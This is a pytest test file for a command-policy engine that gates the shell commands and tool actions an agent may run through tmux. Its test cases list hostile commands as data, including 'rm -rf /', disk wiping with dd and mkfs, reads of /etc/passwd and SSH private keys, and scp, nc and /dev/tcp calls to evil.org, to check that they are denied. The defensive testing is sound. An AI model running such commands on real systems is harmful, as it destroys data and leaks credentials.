from __future__ import annotations

from typing import Any

import pytest

from tests.conftest import Parsed
from tests.kit.cases import for_each
from tmuxmcp.contract.errors import InvalidArgument
from tmuxmcp.contract.value import replace
from tmuxmcp.gate.policy.judge import Action, Ruling, judge, match_words, parse_policy
from tmuxmcp.gate.policy.shelltext import UNKNOWN_COMMAND, SimpleCommand


@pytest.fixture(autouse=True)
def _home(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("HOME", "/home/me")


def run(text: str) -> Action:
    return Action("run", text=text)


def judged(commands: Parsed, action: Action, *entries: Any) -> Ruling:
    if action.text is not None and not action.commands:
        action = replace(action, commands=tuple(commands(action.text)))
    return judge(action, parse_policy(entries))


DENY_RM = {"program": "rm", "action": "deny"}
ALLOW_GIT = {"program": "git", "action": "allow"}
DENY_ALL = {"action": "deny"}


@for_each(
    ("entries", "action", "decision"),
    [
        ([], run("rm -rf /"), "allow"),
        ([DENY_RM], run("ls"), "allow"),
        ([DENY_RM], run("a && rm -rf /"), "deny"),
        ([DENY_RM], run("a $(rm)"), "deny"),
        ([DENY_RM], run("sudo env X=1 bash -c 'rm x'"), "deny"),
        ([DENY_RM], run("echo rm"), "allow"),
        ([DENY_RM], run("$X"), "deny"),
        ([DENY_RM], run("ls )"), "deny"),
        ([DENY_RM], Action("read"), "allow"),
        ([DENY_RM], Action("run_process", commands=(SimpleCommand(("/bin/rm", "x")),)), "deny"),
        ([{"program": "/bin/rm", "action": "deny"}], run("/bin/rm"), "deny"),
        ([{"program": "/bin/rm", "action": "deny"}], run("rm"), "allow"),
        ([{"program": ["r*", "x"], "action": "confirm"}], run("rm"), "confirm"),
        # the first rule that matches, for each command; of these the strictest
        ([ALLOW_GIT, DENY_ALL], run("git status"), "allow"),
        ([ALLOW_GIT, DENY_ALL], run("git status; ls"), "deny"),
        ([ALLOW_GIT, DENY_ALL], run("git $(ls)"), "deny"),
        ([ALLOW_GIT, DENY_ALL], run("$X"), "deny"),
        ([ALLOW_GIT, DENY_ALL], run("PATH=. git status"), "deny"),
        ([ALLOW_GIT, DENY_ALL], run("git status )"), "deny"),
        ([ALLOW_GIT, DENY_ALL], run(""), "deny"),
        ([{"program": "a", "action": "confirm"}, DENY_RM], run("a; rm"), "deny"),
        ([{"program": "a", "action": "confirm"}, DENY_RM], run("a; b"), "confirm"),
        # tools and modes
        ([{"tool": "send", "action": "deny"}], run("ls"), "allow"),
        ([{"tool": ["run", "send"], "action": "deny"}], run("ls"), "deny"),
        ([{"tool": "*_session", "action": "deny"}], Action("create_session"), "deny"),
        ([{"tool": "send", "mode": "password", "action": "deny"}], Action("send", mode="password"), "deny"),
        ([{"tool": "send", "mode": "password", "action": "deny"}], Action("send", mode="editor"), "allow"),
        ([{"mode": "password", "action": "deny"}], Action("send"), "allow"),
        # argv
        ([{"argv": ["git", "push", "**", "--force*", "**"], "action": "deny"}], run("git push a --force-with"), "deny"),
        ([{"argv": ["git", "push", "**", "--force*", "**"], "action": "deny"}], run("git push a"), "allow"),
        ([{"argv": ["git", "push", "**", "--force*", "**"], "action": "deny"}], run("git push $X"), "deny"),
        ([{"argv": ["git", "push", "**", "--force*", "**"], "action": "deny"}], run("git log $X"), "allow"),
        ([{"argv": ["git", "status"], "action": "allow"}, DENY_ALL], run("git status"), "allow"),
        ([{"argv": ["git", "status"], "action": "allow"}, DENY_ALL], run("git -c x status"), "deny"),
        ([{"argv": ["git", "log", "**"], "action": "allow"}, DENY_ALL], run("git log $X"), "allow"),
        # text
        ([{"command": r"\bDROP TABLE\b", "action": "deny"}], run("psql -c 'DROP TABLE x'"), "deny"),
        ([{"command": "^make", "action": "allow"}, DENY_ALL], run("make; rm"), "deny"),
        ([{"command": "make( test)?", "action": "allow"}, DENY_ALL], run("make test"), "allow"),
        ([{"command": r"(?:a|aa|a?a)+[^ab]", "action": "deny"}], run("a" * 3000 + "b"), "deny"),
        # paths
        ([{"path": "/etc/*", "action": "deny"}], run("cat /etc/passwd"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("ls /etc/"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("cat ../etc/passwd"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("cat /etc/../tmp/x"), "allow"),
        ([{"path": "/etc/*", "action": "deny"}], run("cd /etc; cat passwd"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("cat </etc/passwd"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("dd if=/etc/passwd"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("cp --target-directory=/etc x"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("tar -C/etc -x"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("cat /e*"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("cat /et?/passwd"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("cat *"), "allow"),
        ([{"path": "/etc/*", "action": "deny"}], run("cat /tmp/*.c"), "allow"),
        ([{"path": "*/.env", "action": "deny"}], run("cat *.c"), "allow"),
        ([{"path": "*/.env", "action": "deny"}], run("cat .e*"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("cat $X"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], run("echo $X"), "allow"),
        ([{"path": "/etc/*", "action": "deny"}], run("curl https://x/etc/passwd"), "allow"),
        ([{"path": "~/.ssh/*", "action": "deny"}], run("cat ~/.ssh/id_rsa"), "deny"),
        ([{"path": "~/.ssh/*", "action": "deny"}], run("cat /home/me/.ssh/id_rsa"), "deny"),
        ([{"path": "/etc/*", "action": "deny"}], Action("read_file", paths=("/etc/passwd",)), "deny"),
        ([{"program": "cat", "path": "/w/*", "action": "allow"}, DENY_ALL], run("cat a /w/b"), "allow"),
        ([{"program": "cat", "path": "/w/*", "action": "allow"}, DENY_ALL], run("cat a /etc/passwd"), "deny"),
        ([{"program": "cat", "path": "/w/*", "action": "allow"}, DENY_ALL], run("cat $X"), "deny"),
        ([{"program": "cat", "path": "/w/*", "action": "allow"}, DENY_ALL], run("cat"), "deny"),
        # hosts
        ([{"host": "*.evil.org", "action": "deny"}], run("curl -o x https://me:pw@a.EVIL.org:8/x"), "deny"),
        ([{"host": "evil.org", "action": "deny"}], run("ssh -p 22 me@evil.org ls"), "deny"),
        ([{"host": "evil.org", "action": "deny"}], run("scp x me@evil.org:/x"), "deny"),
        ([{"host": "evil.org", "action": "deny"}], run("git clone git@evil.org:x"), "deny"),
        ([{"host": "evil.org", "action": "deny"}], run("curl evil.org/x"), "deny"),
        ([{"host": "evil.org", "action": "deny"}], run("nc evil.org 80"), "deny"),
        ([{"host": "evil.org", "action": "deny"}], run("cat </dev/tcp/evil.org/80"), "deny"),
        ([{"host": "evil.org", "action": "deny"}], run("curl $X"), "deny"),
        ([{"host": "evil.org", "action": "deny"}], run("ls $X"), "allow"),
        ([{"host": "evil.org", "action": "deny"}], run("curl good.org"), "allow"),
        ([{"host": "evil.org", "action": "deny"}], Action("create_session", hosts=("evil.org",)), "deny"),
        # keys
        ([{"tool": "send", "keys": "C-c", "action": "deny"}], Action("send", keys=("a", "C-c")), "deny"),
        ([{"tool": "send", "keys": "C-*", "action": "allow"}, DENY_ALL], Action("send", keys=("C-c", "Up")), "deny"),
        ([{"tool": "send", "keys": "C-*", "action": "allow"}, DENY_ALL], Action("send", keys=("C-c", "C-d")), "allow"),
        # tiers judge what no rule matches, wherever they stand
        (["read-only"], Action("read", read_only=True), "allow"),
        (["read-only"], run("ls"), "deny"),
        (["read-only", {"program": "ls", "action": "allow"}], run("ls"), "allow"),
        ([{"tier": "read-only"}, {"program": "ls", "action": "allow"}], run("ls; rm"), "deny"),
        (["full"], run("sudo rm -rf /"), "allow"),
        (["standard"], run("ls -l | sort"), "allow"),
        (["standard"], run("sudo ls"), "deny"),
        (["standard"], run("env su -c ls"), "deny"),
        (["standard"], run("rm -rf /"), "deny"),
        (["standard"], run("rm -rf /*"), "deny"),
        (["standard"], run("rm -rf ~"), "deny"),
        (["standard"], run("cd / && rm -rf *"), "deny"),
        (["standard"], run("rm -rf /usr/*"), "deny"),
        (["standard"], run("cd /etc && rm -rf *"), "deny"),
        (["standard"], run("rm -rf /home"), "deny"),
        (["standard"], run("rm -rf /home/*/"), "deny"),
        (["standard"], run("rm -rf /var/log/* /usr/*.bak /home/me/x /opt/a*"), "allow"),
        (["standard"], run("rm -rf build /tmp/x /tmp/* *.o /usr/local/x/*"), "allow"),
        (["standard"], run("chmod -R 777 /usr"), "deny"),
        (["standard"], run("mkfs.ext4 /dev/sda1"), "deny"),
        (["standard"], run("dd if=x of=/dev/sda"), "deny"),
        (["standard"], run("dd if=/dev/zero of=x"), "allow"),
        (["standard"], run("$SUDO ls"), "deny"),
        (["standard", {"program": "sudo", "action": "confirm"}], run("sudo ls"), "confirm"),
    ],
)
def test_decisions(commands: Parsed, entries: list[Any], action: Action, decision: str):
    assert judged(commands, action, *entries).decision == decision


def test_verdict_says_which_rule_and_why(commands: Parsed):
    verdict = judged(commands, run("a; rm x"), ALLOW_GIT, DENY_RM | {"reason": "keep files"})
    assert (verdict.rule, verdict.reason) == ("2", "keep files")
    unsure = judged(commands, run("ls )"), DENY_RM)
    assert "cannot be told from its text" in unsure.reason
    assert judged(commands, run("sudo x"), "standard").rule == "standard"


@for_each(
    ("rule", "text", "named"),
    [
        (DENY_RM, "$X --all", "`$X`"),
        (DENY_RM, 'bash -c "$TODO"', '`"$TODO"`'),
        (DENY_RM, "xargs env $(tool) x", "`$(tool)`"),
        ({"path": "/etc/*", "action": "deny"}, "make -j$(nproc) all", "`-j$(nproc)`"),
        ({"path": "/etc/*", "action": "deny"}, "cat <$IN $A{1,2} x $C", "`$IN`, `$A{1,2}`, `$C`"),
        ({"path": "/etc/*", "action": "deny"}, "true; cat x > $OUT; true", "`$OUT`"),
    ],
)
def test_word_that_cannot_be_told_is_named(commands: Parsed, rule: dict[str, Any], text: str, named: str):
    ruling = judged(commands, run(text), rule)
    assert ruling.decision == "deny"
    assert f"what {named} stands for cannot be told" in ruling.reason
    assert "write the value" in ruling.reason


@for_each(
    ("entries", "said"),
    [
        ([ALLOW_GIT, {"programm": "rm", "action": "deny"}], "Rule 2 of the policy: unknown key 'programm'"),
        ([{"program": "rm"}], "action must be"),
        ([{"action": "refuse"}], "action must be"),
        ([{"action": "deny", "program": []}], "program must be"),
        ([{"action": "deny", "program": [1]}], "program must be"),
        ([{"action": "deny", "program": ""}], "program must be"),
        ([{"action": "deny", "tool": "runn"}], "no tool is called 'runn'"),
        ([{"action": "deny", "mode": "passwords"}], "no mode is called"),
        ([{"action": "deny", "command": "("}], "no regular expression"),
        ([{"action": "deny", "command": 1}], "command must be"),
        ([{"action": "deny", "path": "etc"}], "must begin with"),
        ([{"action": "deny", "reason": 1}], "reason must be"),
        (["strict"], "unknown tier 'strict'"),
        ([{"tier": "full", "action": "deny"}], "a tier stands alone"),
        (["full", "standard"], "there is one"),
        ([1], "neither a table nor"),
    ],
)
def test_wrong_rules_are_refused_with_their_number(entries: list[Any], said: str):
    with pytest.raises(InvalidArgument, match=f"Rule {len(entries)} of the policy") as caught:
        parse_policy(entries)
    assert said in str(caught.value)


def test_names_are_those_of_the_tables():
    from tmuxmcp.contract.operations import OPERATIONS
    from tmuxmcp.contract.results import Mode
    from tmuxmcp.gate.policy.judge import RULE_MODES, RULE_TOOLS

    assert set(OPERATIONS) <= RULE_TOOLS
    assert set(Mode.__args__) == RULE_MODES  # type: ignore[attr-defined]


@for_each(
    ("patterns", "words", "match"),
    [
        (["a"], ("a",), True),
        (["a"], ("a", "b"), False),
        (["a", "**"], ("a",), True),
        (["a", "**", "c"], ("a", "b", "c"), True),
        (["**", "c"], ("a", "b"), False),
        (["a", "*"], ("a", None), None),
        (["a", "b"], ("c", None), False),
        (["a", "**"], (None, "b"), None),
        (["a"], (None,), None),
        (["**", "x", "**"], ("a", None, "b"), None),
    ],
)
def test_words_match_patterns(patterns: list[str], words: tuple[str | None, ...], match: bool | None):
    assert match_words(patterns, words) is match


def test_what_is_not_known_matches_nothing_that_allows():
    unknown = Action("run", commands=(UNKNOWN_COMMAND,), text="?")
    assert judge(unknown, parse_policy([{"argv": ["a"], "action": "allow"}, DENY_ALL])).decision == "deny"
